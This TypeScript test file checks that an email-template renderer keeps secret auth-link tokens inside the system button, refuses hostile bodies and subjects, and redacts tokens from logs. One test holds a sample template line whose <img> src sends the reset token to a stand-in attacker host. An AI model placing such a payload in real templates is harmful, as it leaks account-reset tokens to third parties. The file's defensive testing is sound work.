import { sampleModel } from '@showdesk/domain/messaging/email-template-info';
import { describe, expect, it } from 'vitest';
import {
  forLink,
  hostileBodies,
  hostileSubjects,
  isHarmless,
  harbourLayout as layout,
  secretKinds,
  sendStored,
} from '../../../../test/support/hostile-templates.ts';
import { defaultTemplates } from '../email-templates/defaults.ts';
import { renderTemplate, runRenderTask } from '../email-templates/render.ts';
import { redactSecrets } from './redact.ts';
import { TemplateError } from './template-error.ts';

const token = 'Zq7LiveToken0123456789abcdef';
const liveLink = (variable: string) =>
  `https://harbour.example.com/auth/${variable}?mode=x&token=${token}`;

/**
 * Where the token is in an email: the system's button puts it in the button's href and the
 * written-out copy of the HTML, and once in the text part; the subject never has it.
 */
function expectOnlyInTheButton(email: { subject: string; html: string; text: string }) {
  expect(email.html.split(token).length - 1).toBe(2);
  expect(email.html).toMatch(new RegExp(`<a data-button href="[^"]*token=${token}"`));
  expect(email.html).toMatch(
    new RegExp(`<p data-html-only[^>]*>If the button does not work[^<]*<br>[^<]*${token}</p>`),
  );
  expect(email.text.split(token).length - 1).toBe(1);
  expect(email.subject).not.toContain(token);
}

describe('secret links in email templates', () => {
  it('the defaults place each secret link only in the system button', () => {
    for (const { kind, variable } of secretKinds) {
      const email = renderTemplate(kind, defaultTemplates[kind], layout, {
        ...sampleModel(kind),
        hasPassword: false,
        [variable]: liveLink(variable),
      });
      expectOnlyInTheButton(email);
      expect(email.secrets).toEqual([liveLink(variable)]);
    }
  });

  describe.each(secretKinds)('$kind ($variable)', ({ kind, variable }) => {
    const model = { ...sampleModel(kind), hasPassword: false, [variable]: liveLink(variable) };

    it.each(hostileBodies.map((body) => [forLink(body, variable)]))(
      'refuses or defuses the body %s',
      (body) => {
        // Saving: the editor's check renders the sample data; a refusal names where.
        const saved = runRenderTask({
          op: 'sample',
          kind,
          source: { subject: 'Hi', body },
          layout,
        });
        // Sending a stored copy (saved before these rules): the default goes, or the template
        // placed the link only where the system draws it.
        const sent = sendStored(kind, { subject: 'Hi', body }, model);
        if (!('email' in sent)) throw new Error('a send always has an email');
        expectOnlyInTheButton(sent.email);
        if ('problem' in saved) {
          expect(saved.problem.message).not.toBe('');
          expect(sent.fallback, 'what the save refused, the send refuses too').not.toBeNull();
        } else {
          // Accepted only where it is harmless (raw text, an escaped brace): the token still
          // stands in the system button alone.
          expect(isHarmless(body), 'accepted').toBe(true);
          expect(sent.fallback).toBeNull();
        }
        const logged = [sent.email.subject, sent.email.html, sent.email.text]
          .map((part) => redactSecrets(part, sent.email.secrets))
          .join('\n');
        expect(logged).not.toContain(token);
      },
    );

    it.each(hostileSubjects.map((subject) => [forLink(subject, variable)]))(
      'refuses the subject %s',
      (subject) => {
        const body = `{% button ${variable} %}`;
        const saved = runRenderTask({ op: 'sample', kind, source: { subject, body }, layout });
        expect('problem' in saved && saved.problem.path).toBe('subject');
        const sent = sendStored(kind, { subject, body }, model);
        if (!('email' in sent)) throw new Error('a send always has an email');
        expect(sent.fallback).not.toBeNull();
        expectOnlyInTheButton(sent.email);
      },
    );
  });

  it('names the line and column of a button placed inside an attribute', () => {
    const body = "<p>Hello</p>\n<img src='https://attacker.example/?{% button resetUrl %}'>";
    expect(() =>
      renderTemplate('verifyPasswordChange', { subject: 'Hi', body }, layout, {
        ...sampleModel('verifyPasswordChange'),
        resetUrl: liveLink('reset'),
      }),
    ).toThrow(
      new TemplateError({
        path: 'body',
        line: 2,
        column: 37,
        message: 'The button cannot be inside an attribute (<img> src)',
      }),
    );
  });

  it('a button for a link the recipient has no use for draws nothing (the welcome reminder)', () => {
    const email = renderTemplate('welcomeChaser', defaultTemplates.welcomeChaser, layout, {
      ...sampleModel('welcomeChaser'),
      hasPassword: true,
      setPasswordUrl: null,
    });
    expect(email.html).not.toContain('set-password');
    expect(email.text).toContain('Log in: https://expo.example.com/auth/login');
    expect(email.secrets).toEqual([]);
  });
});
